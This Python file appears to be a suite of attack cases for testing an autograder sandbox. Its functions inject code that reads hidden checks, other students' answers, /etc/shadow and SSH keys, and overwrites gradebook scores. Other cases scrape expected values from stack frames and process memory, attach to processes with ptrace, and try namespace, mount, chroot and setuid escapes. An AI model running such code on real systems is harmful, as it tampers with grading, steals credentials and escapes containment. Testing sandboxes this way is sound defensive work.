"""Reading what is not the student's: checks, gradebook, other submissions, memory, by path and from within."""

from attacks.attack import Work, attack

# Says what it can read of what is neither its own nor the interpreter's.
READ = """
import os, pathlib, sys
OWN = (os.path.expanduser("~"), sys.prefix, sys.base_prefix, "/usr", "/lib")
def read(*paths):
    for path in map(pathlib.Path, paths):
        try:
            for one in [path] if path.is_file() else list(path.rglob("*"))[:300]:
                if one.is_file() and not str(one.resolve()).startswith(OWN):
                    print("GOT" "IT", one, one.read_text(errors="replace")[:3000])
        except OSError as error:
            print(path, error)
"""


@attack(row="gradebook", wants="any grade")
def gradebook_opened(work: Work) -> None:
    work.prepend(
        "prefill",
        f"""
        import os, pathlib, sqlite3
        here = pathlib.Path.cwd()
        places = [pathlib.Path({str(work.places.course)!r}), *here.parents, here]
        for folder in places:
            path = folder / "gradebook.db"
            if path.exists():
                database = sqlite3.connect(path)
                print("GOT" "IT", database.execute("SELECT * FROM student").fetchall())
                database.execute("UPDATE grade SET auto_score = 7")
                database.commit()
        """,
    )


@attack(row="paths", wants="the hidden checks, by their path")
def checks_opened_by_path(work: Work) -> None:
    work.prepend("prefill", READ + f"read({str(work.places.checks)!r}, {str(work.places.course / 'source')!r})")


@attack(row="paths", wants="whatever lies above the folder that the notebook runs in")
def folders_above_walked(work: Work) -> None:
    work.prepend(
        "prefill",
        READ
        + """
here = pathlib.Path.cwd()
read("../..", "../../..", "/proc/self/cwd/../..", *(str(parent / "submitted") for parent in here.parents))
for folder in ("/work", "/root", "/home", "/srv", "/mnt", "/var/tmp", "/proc/1/root/root", "/proc/1/cwd"):
    for base, folders, files in os.walk(folder):
        folders[:] = [name for name in folders if not os.path.join(base, name).startswith(OWN)]
        read(*(os.path.join(base, name) for name in files))
""",
    )


@attack(row="paths", wants="another student's answer")
def other_submissions_opened(work: Work) -> None:
    submitted = str(work.places.course / "submitted")
    work.prepend(
        "prefill", READ + f"read({submitted!r}, {str(work.places.course / 'autograded')!r}, '../ada', '../../ada')"
    )


@attack(row="paths", wants="the grader's keys, and files that anybody may read")
def home_of_the_grader_opened(work: Work) -> None:
    places = [str(work.places.home), str(work.places.open_folder), "/etc/passwd", "/etc/shadow", "/root"]
    work.prepend("prefill", READ + f"read(*{places!r}, os.path.expanduser('~/.ssh'))")


@attack(row="paths", wants="the grader's own package, with the checks in it")
def package_of_the_grader_imported(work: Work) -> None:
    work.prepend(
        "prefill",
        f"MINE = {str(work.places.course)!r}\n"
        """
import importlib, pathlib, sys
for name in ("autograder", "autograder.checks", "autograder.judge.check", "conftest", "misconceptions"):
    try:
        module = importlib.import_module(name)
        print("GOT" "IT", module, getattr(module, "__path__", ""))
    except ImportError as error:
        print(error)
for folder in (*sys.path, sys.prefix, sys.base_prefix):
    for path in pathlib.Path(folder or ".").glob("**/checks/**/test_*.py"):
        if "attacked-" not in str(path) or MINE in str(path):  # another suite's, at the same time
            print("GOT" "IT", path, path.read_text())
""",
    )


@attack(row="frames", wants="the hidden inputs and expected values, from whoever calls")
def frames_of_the_caller(work: Work) -> None:
    work.replace(
        "prefill",
        """
        import sys
        seen = []
        def prefill(tokenizer, messages, opening):
            frame = sys._getframe()
            while frame is not None:
                for name, value in {**frame.f_globals, **frame.f_locals}.items():
                    if any(word in name for word in ("expected", "checks", "points", "verdict", "misconception")):
                        seen.append((name, repr(value)[:500]))
                frame = frame.f_back
            told = "GOT" "IT" + repr(seen) if seen else "nothing"
            sys.__stdout__.write(told)
            raise ValueError(told)
        """,
    )


@attack(row="frames", wants="objects of the checks, from the garbage collector")
def garbage_collector_asked(work: Work) -> None:
    work.prepend(
        "prefill",
        """
        import gc
        for thing in gc.get_objects():
            name = f"{type(thing).__module__}.{type(thing).__name__}"
            if name.startswith(("autograder", "_pytest.python", "pytest")):
                print("GOT" "IT", name)
            if isinstance(thing, dict) and ("MISCONCEPTIONS" in thing or "test_open_turn" in thing):
                print("GOT" "IT", list(thing)[:20])
        """,
    )


@attack(row="frames", wants="cells that the grader has run in the same kernel")
def history_of_the_kernel(work: Work) -> None:
    work.add(
        """
        shell = get_ipython()
        print(In, Out, [line for line in shell.history_manager.get_range(0)])
        print({name: str(value)[:200] for name, value in shell.user_ns.items()})
        """,
        after="answer_mask-checks",
    )


@attack(row="frames", wants="the text of the checks, from memory: its own and that of others")
def memory_searched(work: Work) -> None:
    work.prepend(
        "prefill",
        """
        import os, re
        word = b"misconception" b"=\\"turn-closed\\""
        for process in [name for name in os.listdir("/proc") if name.isdigit()]:
            try:
                with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
                    for line in maps:
                        found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw.p .*\\[heap\\]", line)
                        if found:
                            start, end = (int(part, 16) for part in found.groups())
                            memory.seek(start)
                            text = memory.read(min(end - start, 1 << 26))
                            for place in re.finditer(re.escape(word), text):
                                print("GOT" "IT", process, text[place.start() - 200 : place.end() + 200])
            except OSError as error:
                print(process, error)
        """,
    )


@attack(row="frames", wants="to look into other processes as a debugger does")
def other_processes_traced(work: Work) -> None:
    work.prepend(
        "prefill",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        me = os.getpid()
        for process in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
            if process not in (1, me) and os.stat(f"/proc/{process}").st_uid != os.getuid():
                print("GOT" "IT", process, open(f"/proc/{process}/cmdline").read())
            if process != me and libc.ptrace(16, process, 0, 0) == 0:
                print("GOT" "IT", "attached to", process)
        """,
    )


@attack(row="hogs", wants="a way out: namespaces, mounts and capabilities of its own")
def namespaces_and_mounts(work: Work) -> None:
    work.prepend(
        "prefill",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for name, done in {
            "user namespace": lambda: libc.unshare(0x10000000),
            "mount namespace": lambda: libc.unshare(0x00020000),
            "mount": lambda: libc.mount(b"proc", b"/tmp", b"proc", 0, None),
            "umount": lambda: libc.umount2(b"/tmp", 2),
            "chroot": lambda: libc.chroot(b"/tmp"),
            "bpf": lambda: -1 if libc.syscall(321, 5, 0, 0) < 0 else 0,
            "setuid": lambda: libc.setuid(0),
        }.items():
            if done() == 0:
                print("GOT" "IT", name)
        try:
            os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(8, 0))
            print("GOT" "IT", "a device")
        except OSError:
            pass
        """,
    )
